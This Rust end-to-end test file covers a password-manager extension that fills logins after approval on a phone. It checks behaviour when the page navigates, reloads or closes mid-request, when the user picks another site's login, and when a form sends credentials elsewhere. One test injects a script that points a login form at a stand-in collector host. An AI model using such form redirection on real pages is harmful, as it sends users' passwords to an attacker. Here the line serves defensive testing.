//! What can happen to a page between the question and the answer.

use anyhow::Result;
use nearkey_e2e::view::Kind;
use nearkey_e2e::{Choice, World, page, until};

/// T-27
#[tokio::test(flavor = "multi_thread")]
async fn t27_a_page_that_went_elsewhere_while_waiting_is_not_filled() -> Result<()> {
    let world = World::linked().await?;
    let (tab, popup) = world.asked("classic").await?;
    tab.goto(&world.site.url_at("localhost", "classic")).await?;
    world.phone.accept(Choice::FirstMatch)?;
    popup.wait_for_notice("pageChanged").await?;
    assert_eq!(page::filled(&tab).await?, []);
    Ok(())
}

/// T-28: the same address, another document.
#[tokio::test(flavor = "multi_thread")]
async fn t28_a_page_that_was_loaded_again_while_waiting_is_not_filled() -> Result<()> {
    let world = World::linked().await?;
    let (tab, popup) = world.asked("classic").await?;
    tab.reload().await?;
    world.phone.accept(Choice::FirstMatch)?;
    popup.wait_for_notice("pageChanged").await?;
    assert_eq!(page::filled(&tab).await?, []);

    // The login is still at hand, and this page can have it.
    popup.press("Fill in here").await?;
    world.wait_filled(&tab, "email", "password").await
}

/// T-29
#[tokio::test(flavor = "multi_thread")]
async fn t29_closing_the_tab_takes_the_question_back_from_the_phone() -> Result<()> {
    let world = World::linked().await?;
    let (tab, popup) = world.asked("classic").await?;
    tab.close().await?;
    popup.wait_for_fault("requestCancelled").await?;
    until("the phone to hear it", async || {
        Ok(world.commands().contains(&"cancel_request".to_owned()).then_some(()))
    })
    .await?;
    assert!(world.phone.screen().prompt.is_none());
    Ok(())
}

/// T-35: the form sends elsewhere; T-34: only since it was looked at.
#[tokio::test(flavor = "multi_thread")]
async fn t35_t34_a_form_that_sends_elsewhere_gets_a_question_that_names_where() -> Result<()> {
    let world = World::linked().await?;
    let (tab, popup) = world.asked("classic").await?;
    let elsewhere = "document.querySelector('form').action = 'http://collector.example/take'";
    tab.run(elsewhere, Vec::new()).await?;
    world.phone.accept(Choice::FirstMatch)?;
    let screen = popup.wait("the question", |screen| !screen["question"].is_null()).await?;
    assert_eq!(screen["question"]["type"], "otherTarget");
    assert!(popup.text().await?.contains("collector.example"));
    assert_eq!(page::filled(&tab).await?, []);
    popup.press("Do not fill in").await?;
    popup.wait("no question", |screen| screen["question"].is_null()).await?;
    assert_eq!(page::filled(&tab).await?, []);
    Ok(())
}

/// T-76: the phone's user chose the login of another site.
#[tokio::test(flavor = "multi_thread")]
async fn t76_a_login_of_another_site_is_filled_only_after_a_question() -> Result<()> {
    let world = World::linked().await?;
    let (tab, popup) = world.asked("classic").await?;
    let other = world.phone.credentials().into_iter().find(|entry| entry.website.contains("example.com"));
    let other = other.expect("the samples have one");
    world.phone.accept(Choice::One(other.key().to_owned()))?;
    let screen = popup.wait("the question", |screen| !screen["question"].is_null()).await?;
    assert_eq!(screen["question"]["type"], "otherSite");
    assert_eq!(page::filled(&tab).await?, []);
    popup.press("Fill in").await?;
    page::wait_filled(&tab, &[("email", &other.user), ("password", &other.password)]).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_popup_that_was_closed_meanwhile_finds_the_request_again() -> Result<()> {
    let world = World::linked().await?;
    let (tab, popup) = world.asked("classic").await?;
    let letters = popup.letters().await?;
    popup.on.close().await?;

    let popup = world.browser.open_view(Kind::Popup).await?;
    popup.wait_for_stage("waiting").await?;
    assert_eq!(popup.letters().await?, letters);
    popup.on.close().await?;

    // And without any popup it is filled all the same.
    world.phone.accept(Choice::FirstMatch)?;
    world.wait_filled(&tab, "email", "password").await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_without_a_form_gets_the_login_to_copy() -> Result<()> {
    let world = World::linked().await?;
    let (tab, popup) = world.asked("plain").await?;
    world.phone.accept(Choice::FirstMatch)?;
    popup.wait_for_stage("done").await?;
    assert_eq!(page::filled(&tab).await?, []);
    popup.press("Copy password").await?;
    popup.wait_for_text("Password copied.").await
}
